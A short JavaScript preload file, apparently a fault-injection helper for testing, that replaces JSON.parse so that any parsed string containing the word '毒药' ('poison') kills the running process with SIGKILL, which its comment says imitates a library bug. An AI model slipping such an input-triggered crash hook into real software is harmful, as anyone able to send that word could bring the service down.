/** Loaded before the program: a message that holds this word ends whatever process reads it, as a bug in a library would. */

const POISON = '毒药';

const parse = JSON.parse;
JSON.parse = (text, reviver) => {
  if (typeof text === 'string' && text.includes(POISON)) process.kill(process.pid, 'SIGKILL');
  return parse(text, reviver);
};
